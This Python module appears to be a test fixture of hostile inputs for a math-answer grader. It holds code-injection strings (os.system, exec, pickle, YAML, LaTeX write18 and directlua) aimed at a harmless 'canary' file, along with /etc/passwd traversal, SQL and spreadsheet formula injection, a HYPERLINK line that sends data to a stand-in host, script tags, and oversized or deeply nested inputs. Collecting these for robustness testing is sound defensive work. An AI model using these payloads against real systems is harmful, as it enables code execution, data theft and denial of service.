"""What hostile or careless people submit: code, bombs, strange characters, and texts beyond any size.

``ATTACKS`` are formulas; ``ROWS`` are lines of ``verify grade --jsonl`` that attack through other fields; both by name.
"""

from __future__ import annotations

import json
from typing import Any, Final

CANARY: Final = "canary"
TOUCH: Final = f"open('{CANARY}','w')"
SYSTEM: Final = f"__import__('os').system('touch {CANARY}')"

# Code through whatever might evaluate text -----------------------------------------------------------------------------

CODE: Final = {
    "system": SYSTEM, "system applied": f"f({SYSTEM})", "open": TOUCH, "exec": f'exec("{TOUCH}")', "eval": f'eval("{TOUCH}")',
    "compile": f"compile(\"{TOUCH}\", 'a', 'exec')", "lambda": f"(lambda: {TOUCH})()", "comprehension": f"[{TOUCH} for x in [1]]",
    "walrus": f"(x := {TOUCH})", "f-string": "f'{" + TOUCH + "}'", "bases": "().__class__.__bases__[0].__subclasses__()",
    "class": "x.__class__", "class of a symbol": "Symbol('x').__class__", "dict": "x.__dict__", "globals": "sin.__globals__",
    "method": f"x.subs(x, '{SYSTEM}')", "doit": "Integral(x, x).doit()", "sympify": f"sympify('{SYSTEM}')", "S": f"S('{SYSTEM}')",
    "parse_expr": f"parse_expr('{SYSTEM}')", "Symbol": f"Symbol('{SYSTEM}')", "Function": f"Function('{SYSTEM}')(x)",
    "Lambda": f"Lambda(x, '{SYSTEM}')", "lambdify": f"lambdify(x, '{SYSTEM}')(1)", "symbols": "symbols('x:1000000000')",
    "Matrix of text": f"Matrix(['{SYSTEM}'])", "MatrixSymbol": f"MatrixSymbol('A', '{SYSTEM}', 2)",
    "Integer": "Integer('9'*10**9)", "Float": "Float('1', 10**9)", "evalf": "pi.evalf(10**9)", "Wild": "Wild('a')",
    "Dummy": "Dummy()", "import": f"import os; {TOUCH}", "statement": f"x = 1; {TOUCH}", "del": "del x", "await": "await x",
    "yield": "yield x", "global": "global x", "print": "print(x)", "input": "input()",
    "names": "None + True + print + type + object + __builtins__", "dunder": "__name__", "decorator": "@property",
    "format": "'{0.__class__}'.format(x)", "percent": "'%s' % x", "backticks": "`touch canary`", "dollar": "$(touch canary)",
    "string": f"'{SYSTEM}'", "double string": f'"{SYSTEM}"', "triple string": f"'''{SYSTEM}'''", "bytes": f"b'{SYSTEM}'",
    "escape": "\\x5f\\x5fimport\\x5f\\x5f('os')", "comment": f"x # {SYSTEM}", "newline": f"x\n{SYSTEM}",
    "continued": f"x \\\n{SYSTEM}", "pickle": "cos\nsystem\n(S'touch canary'\ntR.",
    "yaml": f"!!python/object/apply:os.system ['touch {CANARY}']", "template": "{{" + SYSTEM + "}}",
    "markup": "<script>alert(1)</script>", "rich": "[link=file:///etc/passwd]x[/link]", "cell": "=cmd|' /C calc'!A0",
    "cell at": "@SUM(1+1)*cmd|' /C calc'!A0", "cell plus": "+1+cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://x.invalid?"&A1)', "path": "../../etc/passwd", "sql": "'; DROP TABLE grades; --",
    "terminal": "\x1b]0;owned\x07\x1b[2Jx", "python words": "class(x) + def(x) + lambda(x) + None(x) + import(x) + is(x)",
    "latex text": rf"\text{{{SYSTEM}}}", "latex operator": rf"\operatorname{{{SYSTEM}}}(x)",
    "latex name": rf"\mathrm{{{SYSTEM}}}", "latex sub": rf"x_{{\text{{{SYSTEM}}}}}", "input file": r"\input{/etc/passwd}",
    "include": r"\include{/etc/passwd}", "write18": rf"\immediate\write18{{touch {CANARY}}}",
    "openout": rf"\newwrite\f\openout\f={CANARY}", "href": r"\href{file:///}{x}", "def bomb": r"\def\a{\a\a}\a",
    "newcommand": r"\newcommand{\x}{\x\x}\x", "csname": r"\csname input\endcsname{/etc/passwd}", "loop": r"\loop\iftrue\repeat",
    "catcode": r"\catcode`\%=12", "verb": r"\verb|x|", "lua": r"\directlua{os.execute('touch canary')}",
}  # fmt: skip

# Small texts that ask for a lot of work -----------------------------------------------------------------------------------

BOMBS: Final = {
    "9**9**9": "9**9**9", "latex tower": "9^{9^{9}}", "tower of two": "2^{2^{2^{2^{2^2}}}}", "tower typed": "2^2^2^2^2^2^2",
    "power of a power": "(((10^1000)^1000)^1000)^1000", "big exponent": "x^(10^9)", "hidden exponent": "x^(5*2000000000)",
    "negative exponent": "(1/3)^(-10^9)", "rational exponent": "2^(1000000001/1000000000)", "decimal exponent": "1e999999999",
    "factorials": "n!!!!!!!!", "many factorials": "9!!!!!!!!!!", "100000!": "100000!", "factorial of a power": "(10^9)!",
    "gamma": "gamma(10^9)", "binomial": "binomial(10^9, 5*10^8)", "binomial latex": r"\binom{1000000000}{500000000}",
    "fibonacci": "fibonacci(10^9)", "bernoulli": "bernoulli(10^6)", "zeta": "zeta(10^9)", "totient": "totient(10^40 + 1)",
    "primepi": "primepi(10^12)", "mod power": "Mod(3^(10^9), 7)", "sum": "Sum(1/k, (k, 1, 10^9))",
    "sum latex": r"\sum_{k=1}^{10^{12}} \sin k",
    "nested sums": r"\sum_{i=1}^{10^9}\sum_{j=1}^{10^9}\sum_{k=1}^{10^9} \frac{1}{i+j+k}", "product": r"\prod_{k=1}^{10^9} (x+k)",
    "sum of powers": "Sum(x^k, (k, 0, 10^6))", "double sum": "Sum(Sum(x^(i*j), (i, 0, 1000)), (j, 0, 1000))",
    "determinant": "det(Matrix([" + ",".join("[" + ",".join(f"x_{i}_{j}" for j in range(20)) + "]" for i in range(20)) + "]))",
    "matrix power": "Matrix([[x, y], [y, x]])^1000",
    "inverse": (
        r"\begin{pmatrix}" + r"\\".join("&".join(f"a_{{{i}{j}}}" for j in range(8)) for i in range(8)) + r"\end{pmatrix}^{-1}"
    ),
    "matrix of 400": "Matrix([" + ",".join("[" + ",".join("1" for _ in range(20)) + "]" for _ in range(20)) + "])",
    "matrix of 900": "Matrix([" + ",".join("[" + ",".join("1" for _ in range(30)) + "]" for _ in range(30)) + "])",
    "expand": "(x+y+z)^{1000}", "expand much": "(a+b+c+d+e+f+g+h)^{100}(x+y+z+w)^{100}",
    "expand product": "*".join(f"(x+{k}*y+z^{k})" for k in range(60)), "powers within": "((((x+1)^9+1)^9+1)^9+1)^9",
    "root tower": "sqrt(1+" * 60 + "x" + ")" * 60, "log tower": "log(2+" * 60 + "x" + ")" * 60,
    "exp tower": "exp(" * 60 + "x" + ")" * 60, "sin tower": "sin(" * 60 + "x" + ")" * 60,
    "abs tower": "|x+" * 20 + "1" + "|" * 20, "exp of exp": "exp(exp(exp(exp(10))))", "sin of huge": "sin(10^1000)",
    "tan of huge": "tan(10^(10^3)+1/3)", "roots": "2^(1/9973)+3^(1/9967)+5^(1/9949)",
    "root sum": "+".join(f"sqrt({p})" for p in (2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37, 41, 43)),
    "root product": "*".join(f"(x-sqrt({p})-y)" for p in range(2, 30)), "continued fraction": "1/(1+" * 80 + "x" + ")" * 80,
    "derivative": "Derivative(sin(x)^9, (x, 100))", "derivative of tower": r"\frac{d}{dx} x^{x^{x^{x^{x^x}}}}",
    "primes": "f" + "'" * 100 + "(x)", "derivatives": r"\frac{\partial^{99}}{\partial x^{99}} \frac{1}{1+x^2}",
    "integral": r"\int_0^1 e^{e^{e^{x}}} \sin(\sin(\sin x)) dx", "integrals": r"\int_0^1" * 20 + " x " + "dx" * 20,
    "limit": r"\lim_{x\to0} \frac{\sin(\tan x)-\tan(\sin x)}{x^7 \log(x)}", "limits": r"\lim_{x\to0}" * 20 + " x",
    "cases": r"\begin{cases}" + r"\\".join(f"{k} & x = {k}" for k in range(400)) + r"\end{cases}",
    "more cases": "Piecewise(" + ",".join(f"({k}, x < {k})" for k in range(1000)) + ")",
    "plus-minus": r"\pm".join(f"x^{{{k}}}" for k in range(40)), "max": "Max(" + ",".join(f"x_{k}" for k in range(300)) + ")",
    "abs sum": "+".join(f"|x-{k}|" for k in range(60)), "and": " and ".join(f"x > {k}" for k in range(300)),
    "chain": "<".join(f"x_{k}" for k in range(200)), "set": "{" + ",".join(str(k) for k in range(2000)) + "}",
    "union": r" \cup ".join(f"[{2 * k}, {2 * k + 1})" for k in range(200)),
    "many symbols": "+".join(f"n_{k}" for k in range(2000)), "product of symbols": "*".join(f"n_{k}" for k in range(1000)),
    "sum squared": "(" + "+".join(f"n_{k}" for k in range(200)) + ")^4", "huge digits": "9" * 10_000, "digits": "1/" + "7" * 900,
    "decimals": "0." + "3" * 900, "big rational": "x^{" + "9" * 50 + "/" + "7" * 50 + "}", "zero power": "0^(-10^9)",
    "division by zero": "1/0 + x/(x-x) + log(0)", "infinite": "oo - oo + 0*oo", "self definition": "x := x + 1",
    "polylog": "Sum(x^k/k^s, (k, 1, oo))", "catalan": "catalan(10^6)", "bell": "bell(10000)", "stirling": "harmonic(10^8)",
    "legendre": "legendre(10000, x)",
}  # fmt: skip

# Nesting and what is not closed ---------------------------------------------------------------------------------------------

DEEP: Final = {
    "parentheses": "(" * 9000 + "x" + ")" * 9000, "brackets": "[" * 9000 + "]" * 9000, "braces": "{" * 9000 + "}" * 9000,
    "sets": r"\{" * 4000 + r"\}" * 4000, "fractions": r"\frac{1}{1+" * 1000 + "x" + "}" * 1000,
    "roots": r"\sqrt{" * 2000 + "x" + "}" * 2000, "bars": "|" * 5000 + "x" + "|" * 5000,
    "left bars": r"\left|" * 1500 + "x" + r"\right|" * 1500, "norms": "‖" * 5000, "scripts": "x_{" * 4000 + "}" * 4000,
    "powers": "x^{" * 4000 + "}" * 4000, "minus": "-" * 10_000 + "x", "not": "not " * 3000 + "x",
    "primes": "f" + "'" * 9000 + "(x)", "factorials": "x" + "!" * 9000, "roots typed": "√" * 9000 + "x", "functions": "f(" * 9000,
    "hats": r"\hat{" * 3000 + "x" + "}" * 3000, "fonts": r"\mathbf{" * 2000 + "x" + "}" * 2000,
    "sums": r"\sum_{i=1}^n " * 1000 + "i", "integrals": r"\int " * 3000 + "x", "matrices": r"\begin{matrix}" * 1000,
    "ends": r"\end{cases}" * 1000, "quantifiers": r"\forall x " * 1500 + "x", "implies": "x => " * 3000 + "x",
    "power chain": "x^" * 8000 + "x", "stars": "2**" * 6000 + "2", "divided": "1/" * 9000 + "x", "comparisons": "x<" * 9000 + "x",
    "applied": "x(" * 6000, "unopened": ")" * 9000, "crossed": "([)]" * 4000,
    "unbalanced": r"\left( [ { | \{ \frac{ \sqrt[ \begin{cases} x_{ ^{", "backslashes": "\\" * 9001,
    "rights": r"\left.\right|_x" * 1200,
}  # fmt: skip

# Characters -----------------------------------------------------------------------------------------------------------------

CHARACTERS: Final = {
    "empty": "", "spaces": "   ", "NUL": "x\0+1", "controls": "".join(map(chr, range(32))) + "x", "delete": "x\x7f",
    "surrogate": "x\ud800", "surrogates": "\udfff\ud800", "right to left": "x\u202e+1\u202c", "isolates": "\u2066x\u2069+1",
    "joiners": "x\u200d\u200cy", "zero width": "x\u200b+\ufeff1", "soft hyphen": "x\u00ad+1", "Cyrillic": "\u0430+b",
    "Greek": "\u03bf+x", "fullwidth": "ｘ＋１", "bold letters": "𝐱+𝟏", "circled": "①+x", "Roman": "Ⅳ", "Arabic digits": "٣+x",
    "fraction": "½x", "superscripts": "x²³⁴", "long superscript": "x" + "⁹" * 5000, "long subscript": "x" + "₉" * 5000,
    "combining": "x" + "\u0301" * 15_000, "only combining": "\u0301", "expansion": "ﷺ" * 15_000, "ligature": "ﬁ(x)",
    "emoji": "👩‍👩‍👧‍👦+x", "flags": "🇩🇪", "noncharacter": "x\uffff\U0010ffff", "private": "\ue000",
    "line ends": "x\r\n+\r1\n+\x0b2\x0c+\u2028 3\u2029", "tabs": "\tx\t+\t1", "no-break": "x\u00a0+\u20091", "quotes": "“x”",
    "dashes": "x—y–z‐w", "tags": "x" + "".join(chr(0xE0000 + ord(c)) for c in "os"), "dotless": "ı+ȷ", "Kelvin": "K+Å",
    "long s": "ſin(x)", "case folding": "ﬀ(x)+ẞ", "every plane": "".join(chr(k) for k in range(0x80, 0x3000, 7)),
    "byte order": "\ufeffx", "swapped order": "\ufffex",
}  # fmt: skip

# Length -----------------------------------------------------------------------------------------------------------------------

LONG: Final = {
    "10 MB": "x+" * 5_000_000, "a million pluses": "+" * 1_000_000, "a million spaces": " " * 1_000_000,
    "a million braces": "{" * 1_000_000, "subscripts": "x_1" * 330_000, "long name": "a" * 19_000,
    "long word": r"\operatorname{" + "a" * 19_000 + "}(x)", "long text": r"\text{" + "a" * 19_000 + "}",
    "long command": "\\" + "a" * 19_000, "long sum": "x+" * 9_999 + "x", "long product": "x " * 9_999,
    "long spaces": "x" + " " * 19_990 + "y", "long typed": "sinx" * 4_999, "numbers": "1 " * 9_999, "commas": "1," * 9_999 + "1",
    "semicolons": "x;" * 9_999 + "x", "words": "ab " * 6_600, "applications": "f(x)" * 4_999, "fractions": r"\frac12" * 2_800,
    "dollars": "$" * 19_999, "rows": r"\\" * 9_999, "ampersands": "&" * 19_999, "expanding": "ﷺ" * 1_000_000,
    "marks": "x" + "\u0301" * 100_000,
}  # fmt: skip

ATTACKS: Final[dict[str, str]] = {
    f"{kind}: {name}": text
    for kind, table in (("code", CODE), ("bomb", BOMBS), ("deep", DEEP), ("characters", CHARACTERS), ("long", LONG))
    for name, text in table.items()
}

# Other fields -----------------------------------------------------------------------------------------------------------------

GOOD: Final = {"reference": "(x+1)^2", "answer": "x^2 + 2x + 1"}
WRONG: Final = {"reference": "(x+1)^2", "answer": "x^2 + x + 1"}


def rows() -> dict[str, str]:
    """Lines by name, each attacking through one field."""
    return {name: json.dumps({**GOOD, "id": name, **fields}) for name, fields in FIELDS.items()} | LINES


FIELDS: Final[dict[str, dict[str, Any]]] = {
    "reference code": {"reference": SYSTEM}, "reference bomb": {"reference": "9^9^9^9"}, "reference list": {"reference": [["x"]]},
    "reference number": {"reference": 5}, "many references": {"reference": ["x"] * 50_000},
    "reference missing": {"reference": None}, "answer number": {"answer": 1}, "answer missing": {"answer": None},
    "type code": {"assume": {"x": SYSTEM}}, "type condition": {"assume": {"x": f"real, x > {SYSTEM}"}},
    "type bomb": {"assume": {"x": "real, x > 9^9^9^9"}}, "type nested": {"assume": {"x": "(" * 9000}},
    "type long": {"assume": {"x": "positive " * 9000}}, "type size": {"assume": {"x": "matrix(99999999,99999999)"}},
    "type digits": {"assume": {"x": f"vector({'9' * 6000})"}}, "type entries": {"assume": {"x": "matrix(9999,9999)"}},
    "type of a size": {"assume": {"n": "function", "x": "vector(n)"}}, "type number": {"assume": {"x": 1}},
    "type cyclic": {"assume": {"x": "matrix(y,y)", "y": "matrix(x,x)"}}, "name code": {"assume": {SYSTEM: "real"}},
    "name empty": {"assume": {"": "real"}}, "name long": {"assume": {"x" * 19_000: "real"}},
    "many names": {"assume": {f"a_{k}": "real" for k in range(20_000)}}, "names as text": {"assume": "x real," * 9_000},
    "names as code": {"assume": SYSTEM}, "assume list": {"assume": ["x"]}, "definition code": {"defs": {"f(x)": SYSTEM}},
    "definition head": {"defs": {SYSTEM: "x"}}, "definition empty": {"defs": {"": ""}},
    "definition cyclic": {"defs": {"x": "y", "y": "x"}},
    "definition of itself": {"defs": {"f(x)": "f(f(x))"}, "reference": "f(x)"},
    "definitions doubling": {"defs": {f"a_{{{k}}}": f"a_{{{k + 1}}} a_{{{k + 1}}}" for k in range(40)}, "reference": "a_{0}"},
    "functions doubling": (
        {"defs": {f"f_{{{k}}}(x)": f"f_{{{k + 1}}}(x) + f_{{{k + 1}}}(x+1)" for k in range(40)}, "reference": "f_{0}(x)"}
    ),
    "parameters": {"defs": {"f(" + ",".join(f"x_{{{k}}}" for k in range(2000)) + ")": "x"}},
    "many definitions": {"defs": {f"a_{{{k}}}": "x" for k in range(20_000)}}, "definition list": {"defs": ["x"]},
    "given code": {"given": [SYSTEM]}, "given bomb": {"given": ["x < 9^9^9^9"]}, "given number": {"given": [5]},
    "given many": {"given": ["x > 0"] * 20_000}, "given false": {"given": ["1 = 2"]}, "given text": {"given": "x > 0"},
    "test code": {"test": SYSTEM}, "test long": {"test": "A" * 1_000_000}, "test list": {"test": ["AlgEquiv"]},
    "options code": {"test": "Diff", "opts": SYSTEM}, "options rules": {"test": "EqualComAssRules", "opts": f"[{SYSTEM}]"},
    "options long": {"test": "SubstEquiv", "opts": "," * 200_000}, "options deep": {"test": "SubstEquiv", "opts": "[" * 9000},
    "applied letters": {"test": "AlgEquiv", "answer": "f(" * 300_000}, "form list": {"form": ["latex"]},
    "form table": {"form": {"x": 1}}, "form code": {"form": SYSTEM}, "id table": {"id": {"a": [SYSTEM]}},
    "id surrogate": {"id": "\ud800\0\u202e"},
}  # fmt: skip

LINES: Final = {
    "id deep": '{"id": ' + "[" * 985 + "]" * 985 + ', "reference": "x", "answer": "x"}',
    "id deeper": '{"id": ' + "[" * 300_000 + "]" * 300_000 + "}", "id digits": '{"id": ' + "1" * 9000 + "}",
    "id infinite": '{"id": 1e999, "reference": "x", "answer": "x"}', "id NaN": '{"id": NaN, "reference": "x", "answer": "x"}',
    "objects": '{"a":' * 100_000, "no JSON": "\x00\x01", "two": '{"a": 1} {"b": 2}', "a list": "[1, 2]", "a text": '"x"',
    "a word": "nul", "open": '{"reference": "x', "20 MB": '{"answer": "' + "x" * 20_000_000 + '"}',
    "keys": json.dumps({f"k{k}": k for k in range(50_000)}),
}  # fmt: skip
